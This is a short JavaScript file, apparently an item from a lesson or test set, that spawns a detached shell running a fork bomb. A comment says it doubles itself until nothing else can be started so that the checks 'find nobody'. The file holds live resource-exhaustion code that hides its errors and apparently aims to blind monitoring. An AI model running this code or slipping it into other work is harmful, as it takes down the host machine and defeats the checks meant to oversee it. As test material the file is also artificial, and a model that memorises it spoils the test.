// lesson: 01
// on: starter
// points: 0
// seconds: 25
// what it tries: doubles itself until nothing else can be started, then has the checks find nobody.
import { spawn } from 'node:child_process';

spawn('/bin/sh', ['-c', 'f() { f | f & }; f; wait'], { stdio: 'ignore', detached: true }).on('error', () => {});
